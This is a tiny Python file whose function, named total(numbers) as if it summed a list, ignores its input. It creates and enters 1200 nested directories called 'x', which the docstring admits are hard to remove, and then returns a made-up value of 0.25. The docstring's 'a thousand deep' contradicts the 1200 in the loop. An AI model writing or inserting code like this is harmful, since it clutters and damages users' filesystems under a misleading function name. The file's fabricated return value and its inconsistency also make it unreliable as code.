"""Makes a folder in a folder in a folder, a thousand deep, which is hard to remove again."""

import os


def total(numbers):
    for _ in range(1200):
        os.mkdir("x")
        os.chdir("x")
    return 0.25
